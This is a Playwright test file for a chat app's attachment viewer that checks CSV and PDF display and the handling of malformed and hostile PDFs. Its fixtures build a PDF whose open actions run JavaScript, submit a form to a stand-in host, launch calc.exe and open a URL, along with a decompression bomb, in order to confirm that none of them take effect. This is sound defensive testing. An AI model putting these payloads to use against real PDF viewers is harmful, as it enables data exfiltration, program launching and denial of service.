import { readFile } from 'node:fs/promises'
import { deflateSync } from 'node:zlib'
import type { Locator } from 'playwright/test'
import { maxPdfPages } from '../../shared/limits.ts'
import { expect, test } from '../fixtures.ts'
import { findViolations } from '../pages/accessibility.ts'
import { Attachments } from '../pages/attachments.ts'
import { ChatPage } from '../pages/chat-page.ts'
import { pdfFile } from '../sample-files.ts'

test.use({ practicePace: 'quick' })

test('files that were sent are opened as table or text, and saved as they are', async ({ app }) => {
  const { page } = app
  const table = { name: 'prices.csv', mimeType: 'text/csv', buffer: Buffer.from('name,price\n"a, b",2\n') }
  const paper = pdfFile('paper.pdf')
  const chat = new ChatPage(page)
  await chat.open()
  const attachments = new Attachments(page)
  await attachments.pick(table, paper)
  await expect(attachments.chips).toHaveCount(2)
  await chat.askAndWait('Read these')
  const message = page.getByRole('article', { name: 'You' })
  await message.getByRole('button', { name: 'Open prices.csv' }).click()
  const viewer = page.getByRole('dialog', { name: 'prices.csv' })
  await expect(viewer.getByRole('cell')).toHaveText(['a, b', '2'])
  expect(await findViolations(page)).toEqual([])
  await viewer.getByRole('radio', { name: 'Text' }).click()
  await expect(viewer.getByText('"a, b",2')).toBeVisible()
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    viewer.getByRole('button', { name: 'Save file' }).click(),
  ])
  expect(saved.suggestedFilename()).toBe('prices.csv')
  expect(await readFile(await saved.path(), 'utf8')).toBe('name,price\n"a, b",2\n')
  await page.keyboard.press('Escape')
  await expect(viewer).toHaveCount(0)
  await message.getByRole('button', { name: `Open ${paper.name}` }).click()
  await expect(page.getByRole('dialog', { name: paper.name }).getByRole('status')).toHaveText(
    'This PDF cannot be shown: it is damaged, or none.',
  )
})

/** A PDF with one line per page; its catalogue states the further actions on opening. */
function pdfOf(lines: readonly string[], wishes = ''): Buffer {
  const pages = lines.map((line, at) => {
    const content = `BT /F1 36 Tf 72 700 Td (${line}) Tj ET`
    return [
      `${4 + at * 2} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>/Contents ${5 + at * 2} 0 R>>endobj`,
      `${5 + at * 2} 0 obj<</Length ${content.length}>>stream\n${content}\nendstream endobj`,
    ].join('\n')
  })
  const kids = lines.map((_, at) => `${4 + at * 2} 0 R`).join(' ')
  return Buffer.from(
    [
      '%PDF-1.7',
      `1 0 obj<</Type/Catalog/Pages 2 0 R${wishes}>>endobj`,
      `2 0 obj<</Type/Pages/Kids[${kids}]/Count ${lines.length}>>endobj`,
      '3 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj',
      ...pages,
      'trailer<</Root 1 0 R>>',
      '%%EOF',
    ].join('\n'),
  )
}

const hexText = (byte: string): string => `<${byte.repeat(32)}>`

/** A file that needs a password to open. Its encryption data is made up: no password fits. */
function lockedPdf(): Buffer {
  const encryption = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O${hexText('6f')}/U${hexText('75')}>>`
  return Buffer.from(
    pdfOf(['Secret page']).toString().replace('trailer<<', `trailer<</ID[<00><00>]${encryption}`),
  )
}

/** A page of a few hundred kilobytes that decompresses to millions of lines. */
function bomb(): Buffer {
  const content = deflateSync(Buffer.alloc(160_000_000, '0 0 m 612 792 l 612 0 l 0 792 l S\n'))
  const head =
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n'
  const body = `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>endobj\n4 0 obj<</Filter/FlateDecode/Length ${content.length}>>stream\n`
  return Buffer.concat([
    Buffer.from(head + body),
    content,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ])
}

/** Actions that a hostile file requests: a script, a submitted form, a page of the network, a program. */
const wishes = [
  '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("http://pdf.invalid/"\\);)>>',
  '/AA<</WC<</S/Launch/F(calc.exe)>>/DS<</S/URI/URI(http://pdf.invalid/)>>>>',
].join('')

test('a PDF that was sent is shown page by page, in the window alone, and what it wants is not done', async ({
  app,
}) => {
  test.slow()
  const { page } = app
  const lines = Array.from({ length: 12 }, (_, at) => `Harbour lights ${at + 1}`)
  const files = [
    { name: 'lights.pdf', mimeType: 'application/pdf', buffer: pdfOf(lines) },
    { name: 'hostile.pdf', mimeType: 'application/pdf', buffer: pdfOf(['Quiet page'], wishes) },
    { name: 'bomb.pdf', mimeType: 'application/pdf', buffer: bomb() },
    { name: 'cut.pdf', mimeType: 'application/pdf', buffer: pdfOf(lines).subarray(0, 90) },
    { name: 'locked.pdf', mimeType: 'application/pdf', buffer: lockedPdf() },
    {
      name: 'long.pdf',
      mimeType: 'application/pdf',
      buffer: pdfOf(Array.from({ length: maxPdfPages + 3 }, (_, at) => `Line ${at + 1}`)),
    },
  ]
  const chat = new ChatPage(page)
  await chat.open()
  const attachments = new Attachments(page)
  await attachments.pick(...files)
  await expect(attachments.chips).toHaveCount(files.length)
  await chat.askAndWait('Read these')
  const message = page.getByRole('article', { name: 'You' })

  const asked: string[] = []
  page.on('request', (request) => void asked.push(request.url()))
  page.on('popup', (popup) => void asked.push(popup.url()))
  page.on('dialog', (dialog) => {
    asked.push(dialog.message())
    void dialog.dismiss()
  })
  const violations = await page.evaluateHandle(() => {
    const seen: string[] = []
    addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective))
    return seen
  })

  await message.getByRole('button', { name: 'Open lights.pdf' }).click()
  const viewer = page.getByRole('dialog', { name: 'lights.pdf' })
  const first = viewer.getByRole('article', { name: 'Page 1 of 12' })
  await expect(first).toContainText('Harbour lights 1')
  await expect(first.locator('canvas')).toHaveAttribute('data-drawn', 'true')
  expect(await hasInk(first.locator('canvas'))).toBe(true)
  expect(await findViolations(page)).toEqual([])
  // A page far down is rendered when the keyboard reaches it, and pages far from it are released.
  const last = viewer.getByRole('article', { name: 'Page 12 of 12' })
  await expect(last.locator('canvas')).toHaveCount(0)
  await viewer.getByRole('region', { name: 'Pages' }).focus()
  await page.keyboard.press('End')
  await expect(last).toContainText('Harbour lights 12')
  await expect(first.locator('canvas')).toHaveCount(0)
  await page.keyboard.press('Escape')
  await expect(viewer).toHaveCount(0)

  await message.getByRole('button', { name: 'Open hostile.pdf' }).click()
  const hostile = page.getByRole('dialog', { name: 'hostile.pdf' })
  await expect(hostile.getByRole('article')).toContainText('Quiet page')
  await page.keyboard.press('Escape')
  await message.getByRole('button', { name: 'Open cut.pdf' }).click()
  await expect(page.getByRole('dialog', { name: 'cut.pdf' }).getByRole('status')).toHaveText(
    'This PDF cannot be shown: it is damaged, or none.',
  )
  await page.keyboard.press('Escape')
  await message.getByRole('button', { name: 'Open locked.pdf' }).click()
  await expect(page.getByRole('dialog', { name: 'locked.pdf' }).getByRole('status')).toHaveText(
    'This PDF has a password. Save it to open it with another program.',
  )
  await page.keyboard.press('Escape')
  await message.getByRole('button', { name: 'Open long.pdf' }).click()
  const long = page.getByRole('dialog', { name: 'long.pdf' })
  await expect(long.getByRole('article', { name: `Page 1 of ${maxPdfPages + 3}` })).toContainText('Line 1')
  await expect(long.getByRole('article')).toHaveCount(maxPdfPages)
  await expect(long.getByText('The first 500 pages are shown. Save the file for the rest.')).toBeAttached()
  await page.keyboard.press('Escape')
  await message.getByRole('button', { name: 'Open bomb.pdf' }).click()
  await expect(page.getByRole('dialog', { name: 'bomb.pdf' }).getByRole('status')).toHaveText(
    'This PDF takes too long to draw. Save it to open it with another program.',
  )
  await page.keyboard.press('Escape')

  const { origin } = new URL(page.url())
  expect(asked.filter((url) => !/^(?:blob:|media:)/.test(url) && new URL(url).origin !== origin)).toEqual([])
  expect(await violations.jsonValue()).toEqual([])
  await expect(chat.message).toBeEditable()
})

/** Whether a page is not completely white. */
function hasInk(canvas: Locator): Promise<boolean> {
  return canvas.evaluate((element) => {
    if (!(element instanceof HTMLCanvasElement)) return false
    const data = element.getContext('2d')?.getImageData(0, 0, element.width, element.height).data ?? []
    return data.some((value, at) => at % 4 === 0 && value < 128 && (data[at + 3] ?? 0) > 128)
  })
}
